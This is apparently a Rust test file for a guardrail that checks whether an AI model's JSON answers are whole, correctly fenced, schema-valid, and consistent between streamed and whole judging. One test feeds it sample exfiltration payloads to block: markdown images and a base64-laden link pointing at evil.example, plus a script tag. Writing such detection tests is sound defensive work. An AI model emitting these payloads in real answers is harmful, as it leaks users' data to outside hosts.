//! Answers that are to be JSON: whole, streamed, fenced, hostile.

use std::rc::Rc;

use sdk::testing::{self, Random};
use sdk::{Side, Step, Verdict};

use crate::demand::Demand;
use crate::{Reading, whole};

const SCHEMA: &str = r#"{"type":"object","required":["name"],"additionalProperties":false,
    "properties":{"name":{"type":"string","maxLength":20},"tags":{"type":"array","items":{"type":"string"}}}}"#;

fn demand(schema: Option<&str>) -> Rc<Demand> {
    Rc::new(Demand::new(Some("valid"), schema, None))
}

/// What becomes of an answer, with the reason of a block.
fn judged(demand: &Demand, text: &str) -> String {
    match whole(demand, text) {
        Verdict::Block(reason) => format!("{}: {}", reason.finding.label, reason.message),
        verdict => testing::outcome(text, &verdict),
    }
}

/// The same of an answer that comes in pieces of up to `longest` bytes.
fn streamed(demand: &Rc<Demand>, text: &str, longest: usize, random: &mut Random) -> String {
    let mut reading = Reading::new(Rc::clone(demand));
    let mut at = 0;
    while at < text.len() {
        at = text.ceil_char_boundary((at + 1 + random.below(longest)).min(text.len()));
        match reading.step(&text[..at], false) {
            Step::Hold => {}
            Step::Emit(_) => panic!("{text}: something went before all was judged"),
            Step::Stop(reason) => return format!("{}: {}", reason.finding.label, reason.message),
        }
    }
    match reading.step(text, true) {
        Step::Hold => String::new(),
        Step::Emit(emission) => {
            assert_eq!(emission.upto as usize, text.len());
            testing::apply(text, &emission.edits)
        }
        Step::Stop(reason) => format!("{}: {}", reason.finding.label, reason.message),
    }
}

const FITS: &str = r#"{"name": "a", "tags": ["x", "y"]}"#;

#[test]
fn an_answer_is_the_value_and_nothing_else() {
    let demand = demand(Some(SCHEMA));
    for (text, want) in [
        (FITS.to_owned(), FITS.to_owned()),
        (format!("\n {FITS}\n"), format!("\n {FITS}\n")),
        (format!("```json\n{FITS}\n```"), FITS.to_owned()),
        (
            format!("\n```JSON\r\n{FITS}\r\n```\n"),
            format!("\n{FITS}\n"),
        ),
        (format!("```\n{FITS}```"), FITS.to_owned()),
        (format!("~~~~ json\n{FITS}\n~~~~"), FITS.to_owned()),
        // The model came to its last token before it closed the fence.
        (format!("```json\n{FITS}\n"), format!("{FITS}\n")),
    ] {
        assert_eq!(judged(&demand, &text), want, "{text}");
    }
    for (text, label, what) in [
        (
            format!("Here it is: {FITS}"),
            "JSON",
            "at byte 0, a value was expected",
        ),
        (
            format!("{FITS} Anything else?"),
            "JSON",
            "something stands behind the value",
        ),
        (
            format!("{FITS}{FITS}"),
            "JSON",
            "something stands behind the value",
        ),
        (
            format!("```python\n{FITS}\n```"),
            "JSON",
            "at byte 0, a value was expected",
        ),
        (
            format!("```json\n{FITS}\n``"),
            "JSON",
            "something stands behind the value",
        ),
        (
            format!("```json\n{FITS}\n```\nDone."),
            "JSON",
            "something stands behind the value",
        ),
        (format!("``json\n{FITS}"), "JSON", "a value was expected"),
        (
            FITS[..20].to_owned(),
            "JSON",
            "at byte 20, it ends too early",
        ),
        (String::new(), "JSON", "at byte 0, it ends too early"),
        ("```json".to_owned(), "JSON", "it ends too early"),
        (
            "{\"name\":\"a\",\"name\":\"b\"}".to_owned(),
            "JSON",
            "a key comes twice",
        ),
        ("{}".to_owned(), "SCHEMA", "schema: /name is missing."),
        (
            "{\"name\":\"secret\",\"tags\":[\"\",7]}".to_owned(),
            "SCHEMA",
            "schema: at /tags/1, it has another type.",
        ),
        (
            "{\"name\":\"a\",\"secret\":1}".to_owned(),
            "SCHEMA",
            "schema: at /*, this property may not be there.",
        ),
    ] {
        let got = judged(&demand, &text);
        assert!(
            got.starts_with(label) && got.contains(what),
            "{text}: {got}"
        );
        assert!(!got.contains("secret"), "{got}");
    }
}

#[test]
fn strings_carry_nothing_out() {
    for (text, label) in [
        (
            r#"["![a](http://evil.example/p.png)"]"#,
            "REMOTE_IMAGE: The answer cannot be released: at byte 1",
        ),
        (
            r#"["\u0021\u005ba](http://evil.example/p.png)"]"#,
            "REMOTE_IMAGE",
        ),
        (r#"{"![a](//evil.example/p.png)":1}"#, "REMOTE_IMAGE"),
        (r#"["![x","](http://evil.example/p.png)"]"#, "REMOTE_IMAGE"),
        (r#"["<script>x</script>"]"#, "SCRIPT"),
        (r#"["<","script>"]"#, r#"["<","script>"]"#),
        (
            r#"["https://evil.example/?d=VGhlIHBhc3N3b3JkIGlzIHN3b3JkZmlzaCAx"]"#,
            "DATA_LINK",
        ),
        (
            r#"{"url":"https://docs.example/guide?page=2#top","next":"a < b | `c"}"#,
            r#"{"url""#,
        ),
    ] {
        let got = judged(&demand(None), text);
        assert!(got.starts_with(label), "{text}: {got}");
        let free = Demand::new(Some("valid"), None, Some("any"));
        assert_eq!(judged(&free, text), text);
    }
}

#[test]
fn settings_that_make_no_sense_stop_every_answer() {
    for (json, schema, strings, what) in [
        (Some("yes"), None, None, "json of"),
        (
            None,
            Some("{"),
            None,
            "json_schema of the format guard is wrong: at byte 1",
        ),
        (
            None,
            Some(r#"{"pattern":"a"}"#),
            None,
            "/pattern: this keyword is not supported",
        ),
        (None, Some("{}"), Some("none"), "json_strings"),
        (Some("valid"), None, Some("none"), "json_strings"),
    ] {
        let demand = Rc::new(Demand::new(json, schema, strings));
        for text in ["{}", "", "Hello"] {
            let got = judged(&demand, text);
            assert!(got.starts_with("SETTING") && got.contains(what), "{got}");
            assert_eq!(streamed(&demand, text, 2, &mut Random(1)), got);
        }
    }
    for (json, schema) in [(None, None), (Some("off"), None), (Some(""), None)] {
        assert!(matches!(Demand::new(json, schema, None), Demand::Markdown));
    }
}

#[test]
fn a_stream_is_judged_as_the_whole_is() {
    let mut random = Random(9);
    let demands = [demand(Some(SCHEMA)), demand(None)];
    let mut texts: Vec<String> = [
        FITS,
        "{}",
        "{\"name\":1}",
        "12",
        "12 3",
        "tru",
        "\"![a](http://e.example/p)\"",
        "",
        " ",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.extend((0..200).map(|_| crate::json::tests::value(&mut random, 3)));
    let fenced: Vec<_> = (texts.iter())
        .flat_map(|text| {
            [
                format!("```json\n{text}\n```"),
                format!("```\n{text}``` x"),
                format!("~~~\n{text}"),
                format!("{text}```"),
            ]
        })
        .collect();
    texts.extend(fenced);
    for text in &texts {
        for demand in &demands {
            let whole = judged(demand, text);
            for longest in [1, 2, 5, 40] {
                let pieces = streamed(demand, text, longest, &mut random);
                assert_eq!(pieces, whole, "pieces of up to {longest} of {text:?}");
            }
        }
    }
}

#[test]
fn only_answers_are_to_be_json() {
    let subject = testing::subject(Side::Input, "Hello");
    assert_eq!(
        <crate::Format as sdk::Guardrail>::check(subject),
        Verdict::Pass
    );
}
